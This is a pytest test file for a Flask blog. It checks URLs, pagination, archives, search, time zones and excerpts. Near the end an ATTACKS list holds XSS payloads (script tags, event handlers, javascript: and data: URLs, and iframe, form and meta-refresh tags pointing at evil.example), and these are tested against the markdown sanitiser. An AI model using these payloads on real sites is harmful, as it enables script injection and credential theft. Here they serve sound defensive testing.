"""What readers see: posts, pages, lists, archives, search, time zones, and clean HTML."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser

import pytest
from conftest import create_post, create_user, login
from flask import Flask
from flask.testing import FlaskClient

from blog.extensions import db
from blog.models import Post
from blog.sanitize import render_markdown


def _at(day: int, hour: int = 12, month: int = 3, year: int = 2024) -> datetime:
    return datetime(year, month, day, hour, tzinfo=UTC)


def _titles(client: FlaskClient, path: str) -> list[str]:
    """Titles of the posts a list page shows, in order."""
    response = client.get(path)
    assert response.status_code == 200, path
    return re.findall(r'<h2 class="post-title"><a href="[^"]+">([^<]+)</a>', response.text)


@pytest.fixture
def author(app: Flask) -> str:
    create_user(app, "alice", "author")
    return "alice"


# --- one post ------------------------------------------------------------------------------


def test_post_address_is_year_month_slug(app: Flask, client: FlaskClient, author: str) -> None:
    post_id, path = create_post(app, author, "Hello there", published_at=_at(5))
    assert path == "/2024/03/hello-there/"
    response = client.get(path)
    assert response.status_code == 200
    body = response.text
    assert '<h1 class="post-title">Hello there</h1>' in body
    assert "<em>text</em>" in body
    assert 'datetime="2024-03-05T12:00:00+00:00"' in body
    assert "March 5, 2024" in body
    assert 'id="commentform"' in body
    assert 'name="robots"' not in body


@pytest.mark.parametrize(
    "wrong", ["/2023/03/hello-there/", "/2024/04/hello-there/", "/1999/12/hello-there/"]
)
def test_wrong_year_or_month_redirects_to_the_canonical_address(
    app: Flask, client: FlaskClient, author: str, wrong: str
) -> None:
    _, path = create_post(app, author, "Hello there", published_at=_at(5))
    response = client.get(wrong)
    assert response.status_code == 301
    assert response.location == path


def test_post_at_the_page_address_redirects(app: Flask, client: FlaskClient, author: str) -> None:
    _, path = create_post(app, author, "Hello there", published_at=_at(5))
    response = client.get("/hello-there/")
    assert response.status_code == 301
    assert response.location == path


def test_unknown_post_is_404(client: FlaskClient) -> None:
    assert client.get("/2024/03/nothing-here/").status_code == 404
    assert client.get("/nothing-here/").status_code == 404


def test_pages_live_at_their_slug(app: Flask, client: FlaskClient, author: str) -> None:
    from blog.models import PostType

    _, path = create_post(app, author, "About me", "I write.", type=PostType.PAGE)
    assert path == "/about-me/"
    response = client.get(path)
    assert response.status_code == 200
    assert "I write." in response.text
    # A page is not a dated post: not on the front page, and its dated address redirects.
    assert "About me" not in _titles(client, "/")
    moved = client.get(datetime.now(UTC).strftime("/%Y/%m/about-me/"))
    assert moved.status_code == 301
    assert moved.location == "/about-me/"


@pytest.mark.parametrize("action", ["draft", "schedule"])
def test_unpublished_posts_are_404_for_readers(
    app: Flask, client: FlaskClient, author: str, action: str
) -> None:
    when = datetime.now(UTC) + timedelta(days=3) if action == "schedule" else None
    _, path = create_post(app, author, "Secret plans", action=action, published_at=when)
    assert client.get(path).status_code == 404
    # Nor to a logged-in user who cannot edit it.
    create_user(app, "bob", "author")
    login(client, "bob")
    assert client.get(path).status_code == 404
    assert "Secret plans" not in client.get("/search/?q=Secret").text


@pytest.mark.parametrize("viewer", ["alice", "editor"])
def test_unpublished_posts_are_a_preview_for_who_can_edit(
    app: Flask, client: FlaskClient, author: str, viewer: str
) -> None:
    if viewer == "editor":
        create_user(app, "editor", "editor")
    _, path = create_post(app, author, "Secret plans", action="draft")
    login(client, viewer)
    response = client.get(path)
    assert response.status_code == 200
    assert '<meta name="robots" content="noindex">' in response.text
    assert "Preview: this post is draft" in response.text
    assert "Secret plans" in response.text


def test_trashed_post_is_gone_for_readers(app: Flask, client: FlaskClient, author: str) -> None:
    from blog.services import posts
    from blog.services.users import find_user

    post_id, path = create_post(app, author, "Regrets")
    with app.app_context():
        user = find_user(author)
        post = db.session.get(Post, post_id)
        assert user is not None and post is not None
        posts.trash(post, user)
    assert client.get(path).status_code == 404
    assert "Regrets" not in _titles(client, "/")


def test_previous_and_next_links(app: Flask, client: FlaskClient, author: str) -> None:
    _, first = create_post(app, author, "First", published_at=_at(1))
    _, second = create_post(app, author, "Second", published_at=_at(2))
    _, third = create_post(app, author, "Third", published_at=_at(3))
    create_post(app, author, "Unfinished", action="draft")
    create_post(
        app, author, "Future", action="schedule", published_at=datetime.now(UTC) + timedelta(days=9)
    )

    def links(path: str) -> dict[str, str]:
        return dict(re.findall(r'rel="(prev|next)" href="([^"]+)"', client.get(path).text))

    assert links(second) == {"prev": first, "next": third}
    assert links(first) == {"next": second}
    assert links(third) == {"prev": second}


# --- lists ---------------------------------------------------------------------------------


def test_front_page_pages_ten_at_a_time(app: Flask, client: FlaskClient, author: str) -> None:
    for day in range(1, 24):
        create_post(app, author, f"Day {day:02d}", published_at=_at(day))
    first_page = _titles(client, "/")
    assert first_page == [f"Day {day:02d}" for day in range(23, 13, -1)]
    assert _titles(client, "/page/2/") == [f"Day {day:02d}" for day in range(13, 3, -1)]
    assert _titles(client, "/page/3/") == ["Day 03", "Day 02", "Day 01"]
    assert client.get("/page/4/").status_code == 404
    assert client.get("/page/0/").status_code == 404
    assert client.get("/page/1/").location == "/"
    assert client.get("/author/alice/page/1/").location == "/author/alice/"
    front = client.get("/").text
    assert 'rel="next" href="/page/2/"' in front
    assert 'rel="prev"' not in front
    assert 'rel="prev" href="/page/2/"' in client.get("/page/3/").text


HUGE = "99999999999999999999"


@pytest.mark.parametrize(
    "path",
    [
        f"/page/{HUGE}/",
        "/page/9223372036854775807/",
        f"/author/alice/page/{HUGE}/",
        f"/tag/t/page/{HUGE}/",
        f"/category/c/?page={HUGE}",
        "/category/c/?page=-1",
        f"/search/?q=x&page={HUGE}",
        f"/2024/03/page/{HUGE}/",
        "/9999/12/",
        "/0001/01/",
    ],
)
def test_absurd_page_numbers_and_dates_are_404_not_500(
    app: Flask, admin_client: FlaskClient, path: str
) -> None:
    create_post(app, "admin", "x", tags=["t"], categories=["c"], published_at=_at(1))
    _save_settings(admin_client, timezone="Pacific/Auckland")
    create_user(app, "alice", "author")
    assert admin_client.get(path).status_code == 404


def test_empty_front_page(client: FlaskClient) -> None:
    response = client.get("/")
    assert response.status_code == 200
    assert "Nothing here yet." in response.text


def test_posts_per_page_setting(app: Flask, admin_client: FlaskClient) -> None:
    for day in range(1, 8):
        create_post(app, "admin", f"Day {day}", published_at=_at(day))
    _save_settings(admin_client, posts_per_page="3")
    assert len(_titles(admin_client, "/")) == 3
    assert len(_titles(admin_client, "/page/3/")) == 1


def test_list_shows_excerpt_and_meta(app: Flask, client: FlaskClient, author: str) -> None:
    create_post(
        app,
        author,
        "With meta",
        "First **words** of a long post.\n\n- and a list, so the excerpt is not all of it",
        published_at=_at(7),
        tags=["Flask"],
        categories=["Code"],
    )
    body = client.get("/").text
    assert '<p class="excerpt">First words of a long post.</p>' in body
    assert 'href="/author/alice/"' in body
    assert 'href="/category/code/"' in body
    assert "0 comments" in body


def test_tag_archive(app: Flask, client: FlaskClient, author: str) -> None:
    create_post(app, author, "Tagged", tags=["Flask", "Python"], published_at=_at(1))
    create_post(app, author, "Also tagged", tags=["flask"], published_at=_at(2))
    create_post(app, author, "Untagged", published_at=_at(3))
    create_post(app, author, "Tagged draft", tags=["Flask"], action="draft")
    assert _titles(client, "/tag/flask/") == ["Also tagged", "Tagged"]
    assert _titles(client, "/tag/python/") == ["Tagged"]
    assert "Tag: Flask" in client.get("/tag/flask/").text
    assert client.get("/tag/nope/").status_code == 404
    assert client.get("/tag/flask/page/2/").status_code == 404


def test_category_archive_includes_child_categories(
    app: Flask, client: FlaskClient, author: str
) -> None:
    create_post(app, author, "In code", categories=["Code"], published_at=_at(1))
    create_post(app, author, "In web", categories=["Code/Web"], published_at=_at(2))
    create_post(app, author, "In flask", categories=["Code/Web/Flask"], published_at=_at(3))
    create_post(app, author, "In news", categories=["News"], published_at=_at(4))
    assert _titles(client, "/category/code/") == ["In flask", "In web", "In code"]
    assert _titles(client, "/category/code/web/") == ["In flask", "In web"]
    assert _titles(client, "/category/news/") == ["In news"]
    assert client.get("/category/nope/").status_code == 404


def test_category_archive_pages(app: Flask, client: FlaskClient, author: str) -> None:
    for day in range(1, 13):
        create_post(app, author, f"Post {day:02d}", categories=["Code"], published_at=_at(day))
    first = client.get("/category/code/").text
    assert 'rel="next" href="/category/code/?page=2"' in first
    assert _titles(client, "/category/code/?page=2") == ["Post 02", "Post 01"]
    assert client.get("/category/code/?page=3").status_code == 404


def test_author_archive(app: Flask, client: FlaskClient, author: str) -> None:
    create_user(app, "bob", "author")
    create_post(app, author, "By alice", published_at=_at(1))
    create_post(app, "bob", "By bob", published_at=_at(2))
    assert _titles(client, "/author/alice/") == ["By alice"]
    assert _titles(client, "/author/bob/") == ["By bob"]
    assert client.get("/author/nobody/").status_code == 404


def test_month_archive(app: Flask, client: FlaskClient, author: str) -> None:
    create_post(app, author, "Late February", published_at=_at(29, 23, month=2))
    create_post(app, author, "Early March", published_at=_at(1, 0, month=3))
    create_post(app, author, "Next year", published_at=_at(1, month=3, year=2025))
    assert _titles(client, "/2024/02/") == ["Late February"]
    assert _titles(client, "/2024/03/") == ["Early March"]
    assert client.get("/2024/04/").status_code == 404  # nothing that month: as WordPress
    assert client.get("/2024/13/").status_code == 404
    assert client.get("/2024/00/").status_code == 404
    archives = client.get("/archives/").text
    months = re.findall(r'<a href="(/\d{4}/\d{2}/)">', archives)
    assert months == ["/2025/03/", "/2024/03/", "/2024/02/"]


def test_search(app: Flask, client: FlaskClient, author: str) -> None:
    create_post(app, author, "Needle in the title", published_at=_at(1))
    create_post(app, author, "Other", "A needle in the body.", published_at=_at(2))
    create_post(app, author, "Haystack", published_at=_at(3))
    create_post(app, author, "Needle draft", action="draft")
    create_post(app, author, "Up 100% today", "Snake_case names.", published_at=_at(4))
    assert _titles(client, "/search/?q=needle") == ["Other", "Needle in the title"]
    assert _titles(client, "/search/?q=NEEDLE") == ["Other", "Needle in the title"]
    nothing = client.get("/search/?q=zebra")
    assert nothing.status_code == 200
    assert "Nothing here yet." in nothing.text
    assert 'value="zebra"' in nothing.text
    # LIKE wildcards are searched for as text, not as patterns.
    assert _titles(client, "/search/?q=%25") == ["Up 100% today"]
    assert _titles(client, "/search/?q=_") == ["Up 100% today"]
    # A NUL cannot be in any post (PostgreSQL would refuse the query): no match, no 500.
    assert _titles(client, "/search/?q=a%00b") == []


def test_search_terms_are_escaped(client: FlaskClient) -> None:
    body = client.get("/search/", query_string={"q": '"><script>alert(1)</script>'}).text
    assert "<script>alert(1)" not in body
    assert "&lt;script&gt;" in body


def test_404_page_helps_readers_on(client: FlaskClient) -> None:
    response = client.get("/2024/03/not-here/")
    assert response.status_code == 404
    body = response.text
    assert '<form class="search-form search-form-large" role="search"' in body
    assert 'href="/archives/"' in body
    assert 'href="/"' in body


# --- the site's time zone ------------------------------------------------------------------


def _save_settings(client: FlaskClient, **fields: str) -> None:
    data = {
        "site_name": "My Blog",
        "site_description": "Just another blog",
        "timezone": "UTC",
        "posts_per_page": "10",
        **fields,
    }
    response = client.post("/admin/settings", data=data)
    assert response.status_code == 303, response.text


def test_times_follow_the_site_time_zone(app: Flask, admin_client: FlaskClient) -> None:
    _save_settings(admin_client, timezone="Pacific/Auckland")
    # 23:30 UTC on 31 January is 12:30 on 1 February in Auckland (UTC+13 in summer).
    _, path = create_post(app, "admin", "Kiwi time", published_at=_at(31, 23, month=1))
    assert path == "/2024/02/kiwi-time/"
    reader = admin_client.application.test_client()
    page = reader.get(path)
    assert page.status_code == 200
    assert "February 1, 2024" in page.text
    assert reader.get("/2024/01/kiwi-time/").location == path
    assert _titles(reader, "/2024/02/") == ["Kiwi time"]
    assert reader.get("/2024/01/").status_code == 404  # nothing that month (site time)
    assert 'href="/2024/02/"' in reader.get("/archives/").text


def test_editor_times_are_in_the_site_time_zone(app: Flask, admin_client: FlaskClient) -> None:
    _save_settings(admin_client, timezone="Pacific/Auckland")
    response = admin_client.post(
        "/admin/posts/new",
        data={
            "title": "Local time",
            "type": "post",
            "published_at": "2024-02-01T12:30",
            "action": "publish",
        },
    )
    assert response.status_code == 303
    post_id = int(response.location.split("/")[3])
    with app.app_context():
        post = db.session.get(Post, post_id)
        assert post is not None
        assert post.published_at == _at(31, 23, month=1).replace(minute=30)
    edit = admin_client.get(f"/admin/posts/{post_id}/edit").text
    assert 'value="2024-02-01T12:30"' in edit
    assert "(Pacific/Auckland)" in edit


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"timezone": "Mars/Olympus_Mons"}, "Unknown time zone"),
        ({"posts_per_page": "0"}, "Number must be between 1 and 100."),
        ({"site_name": ""}, "This field is required."),
    ],
)
def test_bad_settings_are_refused(
    admin_client: FlaskClient, fields: dict[str, str], message: str
) -> None:
    data = {"site_name": "Kept", "timezone": "UTC", "posts_per_page": "10", **fields}
    response = admin_client.post("/admin/settings", data=data)
    assert response.status_code == 400
    assert message in response.text
    assert admin_client.get("/admin/settings").status_code == 200


def test_site_title_setting_shows_everywhere(admin_client: FlaskClient) -> None:
    _save_settings(admin_client, site_name="Notes & Things", site_description="Short ones")
    body = admin_client.get("/").text
    assert "Notes &amp; Things" in body
    assert "Short ones" in body


# --- nothing a post's author types runs in a reader's browser ----------------------------

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<p onclick=alert(1) onmouseover=alert(2)>hover</p>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x09;script:alert(1))",
    '<a href="&#106;avascript:alert(1)">x</a>',
    "![pic](javascript:alert(1))",
    '<img src="javascript:alert(1)">',
    '<iframe src="https://evil.example/"></iframe>',
    "<style>body { display: none }</style>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    '<svg onload="alert(1)"><circle/></svg>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name="password"></form>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    '<a href="https://example.com/" target="_blank" id="header">ok</a>',
]

FORBIDDEN_TAGS = {
    "script", "iframe", "style", "object", "embed", "form", "input", "svg", "math",
    "base", "meta", "link", "frame", "frameset", "noscript", "template",
}  # fmt: skip


class _Inspector(HTMLParser):
    """Collects every tag and attribute a browser would see in the post body."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)

    handle_startendtag = handle_starttag


def _assert_inert(html: str) -> None:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    assert not FORBIDDEN_TAGS & set(inspector.tags), inspector.tags
    for tag, name, value in inspector.attributes:
        assert not name.startswith("on"), (tag, name)
        assert name not in ("style", "srcdoc", "formaction", "target"), (tag, name)
        assert not (name == "id" and not value.startswith(("fn:", "fnref"))), (tag, name, value)
        if name in ("href", "src"):
            squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
            assert (
                squeezed.startswith(("http:", "https:", "mailto:", "#", "/"))
                or ":" not in (squeezed.split("/")[0])
            ), (tag, name, value)


@pytest.mark.parametrize("attack", ATTACKS)
def test_markdown_and_raw_html_come_out_inert(attack: str) -> None:
    _assert_inert(render_markdown(f"Before.\n\n{attack}\n\nAfter."))


def test_script_smuggled_through_the_editor_is_inert_on_the_page(
    app: Flask, admin_client: FlaskClient
) -> None:
    body = "\n\n".join(ATTACKS)
    response = admin_client.post(
        "/admin/posts/new",
        data={"title": "Attacks", "body": body, "type": "post", "action": "publish"},
    )
    assert response.status_code == 303
    reader = admin_client.application.test_client()
    with app.app_context():
        post = db.session.scalars(db.select(Post)).one()
        assert post.body == body  # the typed text is kept as it was
        year, month = post.published_at.year, post.published_at.month  # type: ignore[union-attr]
    page = reader.get(f"/{year:04d}/{month:02d}/attacks/").text
    article = page.split('<div class="post-body">', 1)[1].split('<footer class="post-footer">')[0]
    _assert_inert(article)
    assert "alert(1)</script>" not in page
    # Code shows the text, escaped, rather than dropping it.
    assert "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>" in article
    assert "&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;" in article
    front = reader.get("/").text
    assert "<script>alert" not in front


def test_safe_markup_is_kept() -> None:
    html = render_markdown(
        '<a href="https://example.com/" title="t">link</a> <abbr title="HyperText">HTML</abbr>\n\n'
        "![alt text](https://example.com/a.png)\n\n"
        "<kbd>Ctrl</kbd> and <mark>marked</mark>"
    )
    assert '<a href="https://example.com/" title="t">link</a>' in html
    assert '<abbr title="HyperText">HTML</abbr>' in html
    assert '<img alt="alt text" src="https://example.com/a.png">' in html
    assert "<kbd>Ctrl</kbd>" in html
    assert "<mark>marked</mark>" in html


def test_sticky_posts_come_first_on_the_front_page_only(app, client, admin):
    """As WordPress: a sticky post tops the first page of the front page, marked, and is
    listed where its date puts it on later pages and in archives."""
    from datetime import timedelta

    from blog.models import Post, utcnow
    from blog.services.settings import save_site

    now = utcnow()
    ids = {}
    for days, title in ((30, "Old but pinned"), (2, "Newer"), (1, "Newest")):
        ids[title], _ = create_post(
            app, admin, title=title, published_at=now - timedelta(days=days)
        )
    with app.app_context():
        db.session.get(Post, ids["Old but pinned"]).sticky = True
        db.session.commit()
    body = client.get("/").get_data(as_text=True)
    order = [body.index(t) for t in ("Old but pinned", "Newest", "Newer")]
    assert order == sorted(order)
    assert body.count("Old but pinned</a>") == 1
    assert body.count('class="sticky-label"') == 1
    archive = client.get("/author/admin/").get_data(as_text=True)
    assert archive.index("Newest") < archive.index("Old but pinned")
    assert 'class="sticky-label"' not in archive
    # Two a page: the first shows it on top, the second where its date puts it.
    with app.app_context():
        save_site("My Blog", "", "UTC", 2)
    first = client.get("/").get_data(as_text=True)
    assert [t in first for t in ("Old but pinned", "Newest", "Newer")] == [True, True, True]
    second = client.get("/page/2/").get_data(as_text=True)
    assert "Old but pinned" in second and 'class="sticky-label"' not in second


def test_a_post_shown_whole_on_the_front_page_has_no_continue_reading(app, client, admin):
    create_post(app, admin, title="Short note", body="Just *two* lines.\n\nThat is all.")
    create_post(
        app,
        admin,
        title="Long essay",
        body="## A heading\n\nThe opening paragraph. " + "More words here. " * 30 + "\n\n- a\n- b",
    )
    body = client.get("/").get_data(as_text=True)
    short = body.split("Short note", 1)[1].split("</article>", 1)[0]
    assert "Continue reading" not in short
    assert "<em>two</em>" in short and "That is all." in short  # the post itself
    long = body.split("Long essay", 1)[1].split("</article>", 1)[0]
    assert "Continue reading" in long


@pytest.mark.parametrize(
    ("body", "excerpt", "whole"),
    [
        ("One paragraph.", "One paragraph.", True),
        ("# Heading\n\nFirst.\n\nSecond.", "First. Second.", False),
        ("First.\n\n- item\n- item\n\n```\ncode()\n```", "First.", False),
        ("- only\n- a list", "only a list", False),
        ("First[^1].\n\n[^1]: A note.", "First.", False),
        ("> A quote.\n\nAfter it.", "A quote. After it.", True),
    ],
)
def test_automatic_excerpts_read_as_prose(app, admin, body, excerpt, whole):
    """The first paragraph(s), not a run-on of headings, list items and code."""
    post_id, _ = create_post(app, admin, body=body)
    with app.app_context():
        post = db.session.get(Post, post_id)
        assert (post.excerpt, post.excerpt_is_whole) == (excerpt, whole)


def test_a_long_first_paragraph_is_cut_at_a_word(app, admin):
    post_id, _ = create_post(app, admin, body="word " * 100 + "\n\nSecond paragraph.")
    with app.app_context():
        post = db.session.get(Post, post_id)
        assert post.excerpt.endswith("…") and len(post.excerpt) <= 300
        assert "Second" not in post.excerpt and not post.excerpt_is_whole
